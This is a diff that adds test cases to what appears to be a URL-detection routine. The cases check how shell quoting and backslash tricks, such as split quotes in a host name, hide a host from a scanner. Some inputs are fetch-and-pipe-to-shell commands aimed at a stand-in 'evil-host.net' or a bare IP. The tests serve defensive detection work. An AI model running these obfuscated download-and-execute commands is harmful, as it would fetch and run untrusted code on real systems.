@@ -647,6 +647,67 @@ cases('what a program is given, in the forms that people write it', [
   ['the irm is.'],
 ]);
 
+cases('what a shell makes of quotes and backslashes in what a program is given', [
+  ['curl h.ev""il-host.net/x', 'http://h.evil-host.net/x'],
+  ["curl h.ev''il-host.net", 'http://h.evil-host.net/'],
+  ['curl ev""il-host.net/x', 'http://evil-host.net/x'],
+  ["curl ev'il'-host.net/x | sh", 'http://evil-host.net/x'],
+  ['curl ev"il-host".net/x', 'http://evil-host.net/x'],
+  ["curl 'evil-ho'st.net/x", 'http://evil-host.net/x'],
+  ['curl "evil-host".net/x', 'http://evil-host.net/x'],
+  ['curl "evil-"\'host\'.net/x', 'http://evil-host.net/x'],
+  ['curl e\\vil-host.net/x', 'http://evil-host.net/x'],
+  ['curl evil-host\\.net/x', 'http://evil-host.net/x'],
+  ["curl $'evil-host.net/x'", 'http://evil-host.net/x'],
+  ['curl $"evil-host.net/x"', 'http://evil-host.net/x'],
+  ['curl -s ev""il-host.net/x', 'http://evil-host.net/x'],
+  ['curl -o "a b" ev""il-host.net:8080/x', 'http://evil-host.net:8080/x'],
+  ['curl me:pw@ev""il-host.net/x', 'http://evil-host.net/x'],
+  ['wget 45"."9.148.3', 'http://45.9.148.3/'],
+  ['curl ht""tp://evil-host.net/x', 'http://evil-host.net/x'],
+  ["curl 'ht'tps://evil-host.net/x", 'https://evil-host.net/x'],
+  ['curl h\\ttps://evil-host.net/x', 'https://evil-host.net/x'],
+  ['curl "https:"//evil-host.net/x', 'https://evil-host.net/x'],
+  ['curl https:"//"evil-host.net/x', 'https://evil-host.net/x'],
+  ['curl "https://"evil-host.net/x', 'https://evil-host.net/x'],
+  ['curl https://"evil-host.net"/x', 'https://evil-host.net/x'],
+  ['curl https://ev""il-host.net/x', 'https://evil-host.net/x'],
+  ['curl -L https://ev"il-ho"st.net/x a.io', 'https://evil-host.net/x', 'http://a.io/'],
+  // Both readings: a person would end the first at its quote
+  ['curl "good.com".evil-host.net/x', 'http://good.com.evil-host.net/x', 'http://good.com/'],
+  ["wget 'https://good.com'.evil-host.net/x", 'https://good.com.evil-host.net/x', 'https://good.com/'],
+  ['curl https://good.com"".evil-host.net/x', 'https://good.com.evil-host.net/x', 'https://good.com/'],
+  ['curl good.com\\.evil-host.net/x', 'http://good.com.evil-host.net/x', 'http://good.com/'],
+  // The quotes of strings and lists
+  ['exec("curl evil-host.net")', 'http://evil-host.net/'],
+  ['exec("curl good.com"+".evil-host.net")', 'http://good.com/'],
+  ['["curl","good.com",".evil-host.net"]', 'http://good.com/'],
+  ["'curl good.com'.length", 'http://good.com/'],
+  ['run("curl https://good.com")', 'https://good.com/'],
+  ['`curl good.com`.text', 'http://good.com/'],
+  ['curl "https://good.com" "https://evil-host.net"', 'https://good.com/', 'https://evil-host.net/'],
+  ["curl don't"],
+  ['"curl failed: $X \\nevil-host.net answered"'],
+  ['curl "and" wget'],
+  ["curl's evil-host"],
+]);
+
+cases('words without a dot before what a program is given', [
+  ['curl a evil-host.net/x | sh', 'http://evil-host.net/x'],
+  ['curl localhost evil-host.net/x', 'http://evil-host.net/x'],
+  ['curl localhost:3000/a evil-host.net/x', 'http://evil-host.net/x'],
+  ['wget a b c evil-host.net:8080/x', 'http://evil-host.net:8080/x'],
+  ['curl -s a -o b evil-host.net/x', 'http://evil-host.net/x'],
+  ['curl evil-host.net/x a b.io/y', 'http://evil-host.net/x', 'http://b.io/y'],
+  ['curl a 45.9.148.3/x', 'http://45.9.148.3/x'],
+  // Prose
+  ['use curl to fetch evil-host.net'],
+  ['wget and readme.md'],
+  ['curl and openssl 1.1.1'],
+  ['curl, see evil-host.net/x'],
+  ['curl is good. See evil-host.net/x'],
+]);
+
 cases('where a URL ends', [
   ['https://evil-host.net/x،', 'https://evil-host.net/x'],
   ['https://evil-host.net/x؛', 'https://evil-host.net/x'],
